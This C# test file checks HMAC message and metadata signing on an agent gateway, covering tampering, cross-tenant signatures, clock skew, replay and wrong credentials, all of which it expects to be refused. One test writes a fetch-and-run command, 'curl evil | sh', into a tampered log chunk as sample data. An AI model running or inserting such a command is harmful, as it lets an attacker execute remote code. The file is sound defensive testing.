using Argy.ControlPlane.Tests.Support;
using Argy.Protocol.V1;
using Google.Protobuf;
using Grpc.Core;

namespace Argy.ControlPlane.Tests.Gateway;

/// <summary>hmac mode on the real gateway: signed stream metadata and signed messages.</summary>
public sealed class SignatureTests : IAsyncLifetime
{
    private TestControlPlane _controlPlane = null!;
    private EnrolledAgent _agent = null!;

    public async Task InitializeAsync()
    {
        _controlPlane = await TestControlPlane.StartAsync();
        _agent = await _controlPlane.EnrollAgentAsync();
    }

    public async Task DisposeAsync() => await _controlPlane.DisposeAsync();

    private GatewayClient NewClient(EnrolledAgent? agent = null) =>
        new(new AgentGateway.AgentGatewayClient(_controlPlane.Channel()), agent ?? _agent, _controlPlane.Time);

    [Fact]
    public async Task A_valid_signature_opens_the_stream_and_signed_messages_are_accepted()
    {
        var client = NewClient();

        var welcome = await client.ConnectAsync();
        await client.SendAsync(GatewayClient.Heartbeat());
        await client.SendAsync(GatewayClient.Heartbeat());

        welcome.Should().NotBeNull();
        var agent = await TestControlPlane.Json(await _controlPlane.Admin().GetAsync($"/api/v1/agents/{_agent.AgentId}"), 200);
        ((string)agent["authMode"]!).Should().Be("hmac");
        ((string)agent["status"]!).Should().Be("Connected");
    }

    [Fact]
    public async Task A_tampered_message_body_ends_the_stream_unauthenticated_and_is_audited()
    {
        var client = NewClient();
        await client.ConnectAsync();
        var chunk = new AgentMessage { LogChunk = new LogChunk { RunId = "run_x", Sequence = 1, Data = ByteString.CopyFromUtf8("deploy ok") } };
        client.Signer!.Sign(chunk, _agent.Key);
        chunk.LogChunk.Data = ByteString.CopyFromUtf8("deploy ok; curl evil | sh");

        await client.SendAsync(chunk, sign: false);

        var end = await client.EndAsync();
        end.StatusCode.Should().Be(StatusCode.Unauthenticated);
        end.Status.Detail.Should().Contain("BadSignature");
        var audit = await AuditEvents.WaitForAsync(_controlPlane, "agent.auth.rejected", e => ((string)e["detail"]!).Contains("BadSignature"));
        audit.Should().ContainSingle().Which["actor"]!.GetValue<string>().Should().Be(_agent.AgentId);
    }

    [Fact]
    public async Task Metadata_signed_for_another_tenant_is_refused()
    {
        var client = NewClient();
        client.Open(client.SignedHeaders(signedTenant: "ten_someoneelse0000"));
        await client.SendAsync(client.Hello(), sign: false);

        var end = await client.EndAsync();

        end.StatusCode.Should().Be(StatusCode.Unauthenticated);
        end.Status.Detail.Should().Contain("BadSignature");
    }

    [Fact]
    public async Task A_message_signed_for_another_tenant_is_refused()
    {
        var client = NewClient();
        await client.ConnectAsync();
        var heartbeat = GatewayClient.Heartbeat();
        new Argy.Protocol.Signing.AgentMessageSigner("ten_someoneelse0000", _agent.AgentId, client.Nonce, _controlPlane.Time).Sign(heartbeat, _agent.Key);
        heartbeat.Signature.Nonce = client.Nonce + ".2";

        await client.SendAsync(heartbeat, sign: false);

        (await client.EndAsync()).Status.Detail.Should().Contain("BadSignature");
    }

    [Theory]
    [InlineData(-301)]
    [InlineData(301)]
    public async Task Metadata_more_than_300_seconds_off_the_control_planes_clock_is_refused(int skewSeconds)
    {
        var client = NewClient();
        var signedAt = _controlPlane.Time.GetUtcNow().ToUnixTimeSeconds() + skewSeconds;
        client.Open(client.SignedHeaders(timestamp: signedAt));
        await client.SendAsync(client.Hello(), sign: false);

        var end = await client.EndAsync();

        end.StatusCode.Should().Be(StatusCode.Unauthenticated);
        end.Status.Detail.Should().Contain("OutsideClockSkew");
    }

    [Fact]
    public async Task Metadata_300_seconds_off_is_still_accepted()
    {
        var client = NewClient();
        var signedAt = _controlPlane.Time.GetUtcNow().ToUnixTimeSeconds() - 300;

        var welcome = await client.ConnectAsync(client.SignedHeaders(timestamp: signedAt));

        welcome.Should().NotBeNull();
    }

    [Fact]
    public async Task A_message_whose_clock_drifted_past_the_skew_is_refused()
    {
        var client = NewClient();
        await client.ConnectAsync();
        var heartbeat = GatewayClient.Heartbeat();
        client.Signer!.Sign(heartbeat, _agent.Key);

        // Signed, then held for over five minutes before it arrives.
        _controlPlane.Time.Advance(TimeSpan.FromSeconds(301));
        await client.SendAsync(heartbeat, sign: false);

        (await client.EndAsync()).Status.Detail.Should().Contain("OutsideClockSkew");
    }

    [Fact]
    public async Task Replayed_stream_metadata_is_refused_within_the_nonce_memory()
    {
        var first = NewClient();
        var headers = first.SignedHeaders();
        await first.ConnectAsync(headers);

        var replay = NewClient();
        replay.Open(headers);
        await replay.SendAsync(replay.Hello(), sign: false);
        var end = await replay.EndAsync();

        end.StatusCode.Should().Be(StatusCode.Unauthenticated);
        end.Status.Detail.Should().Contain("Replayed");
    }

    [Fact]
    public async Task A_replayed_message_is_refused()
    {
        var client = NewClient();
        await client.ConnectAsync();
        var heartbeat = GatewayClient.Heartbeat();
        await client.SendAsync(heartbeat);

        await client.SendAsync(heartbeat, sign: false);

        (await client.EndAsync()).Status.Detail.Should().Contain("Replayed");
    }

    [Fact]
    public async Task A_message_carried_over_from_another_stream_is_refused()
    {
        var other = NewClient();
        await other.ConnectAsync();
        var captured = GatewayClient.Heartbeat();
        other.Signer!.Sign(captured, _agent.Key);

        var client = NewClient();
        await client.ConnectAsync();
        await client.SendAsync(captured, sign: false);

        (await client.EndAsync()).Status.Detail.Should().Contain("Replayed");
    }

    [Fact]
    public async Task An_unsigned_message_on_an_hmac_stream_is_refused()
    {
        var client = NewClient();
        await client.ConnectAsync();

        await client.SendAsync(GatewayClient.Heartbeat(), sign: false);

        (await client.EndAsync()).Status.Detail.Should().Contain("Malformed");
    }

    [Fact]
    public async Task A_wrong_secret_is_refused()
    {
        var client = NewClient();
        var wrongKey = new Argy.Protocol.Signing.SigningKey(_agent.KeyId, "not the secret but long enough");
        client.Open(client.SignedHeaders(key: wrongKey));
        await client.SendAsync(client.Hello(), sign: false);

        (await client.EndAsync()).Status.Detail.Should().Contain("BadSignature");
    }

    [Fact]
    public async Task An_api_key_presented_for_an_hmac_agent_is_refused()
    {
        var client = NewClient();
        client.Open(GatewayClient.ApiKeyHeaders(_agent));
        await client.SendAsync(client.Hello(), sign: false);

        var end = await client.EndAsync();

        end.StatusCode.Should().Be(StatusCode.Unauthenticated);
        end.Status.Detail.Should().Be("Unknown agent or wrong credential.");
    }
}
